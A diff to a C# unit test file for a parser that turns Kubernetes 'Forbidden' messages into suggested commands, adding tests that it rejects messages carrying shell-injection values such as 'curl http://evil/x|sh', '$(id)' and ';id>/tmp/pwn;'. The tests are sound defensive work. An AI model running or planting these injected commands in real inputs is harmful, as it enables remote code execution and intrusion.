@@ -48,7 +48,16 @@ public class AccessDenialTests
 
     [Fact]
     public void What_the_server_says_is_shown_without_control_characters() =>
-        Assert.DoesNotContain('\u001b', AccessDenial.From(Forbidden("User \"u\u001b[31m\" cannot get resource \"x\" in API group \"\""))!.ToString());
+        Assert.DoesNotContain('\u001b', AccessDenial.From(Forbidden("User \"u\u001b[31m\" cannot get resource \"x\" in API group \"\" at the cluster scope"))!.ToString());
+
+    // People copy the command.
+    [Theory]
+    [InlineData("""User "u" cannot list resource "events" in API group "" in the namespace "default; curl http://evil/x|sh #" """)]
+    [InlineData("""User "u" cannot list;id>/tmp/pwn; resource "events" in API group "" in the namespace "default" """)]
+    [InlineData("""User "u" cannot list resource "events$(id)" in API group "" in the namespace "default" """)]
+    [InlineData("""User "u" cannot list resource "events" in API group "`id`" at the cluster scope""")]
+    [InlineData("""User "u" cannot get path "/api;id": no RBAC policy matched""")]
+    public void Words_that_no_name_has_become_no_command(string message) => Assert.Null(AccessDenial.From(Forbidden(message)));
 
     private static KubernetesStatus Forbidden(string message) => new() { Code = 403, Reason = "Forbidden", Message = message };
 
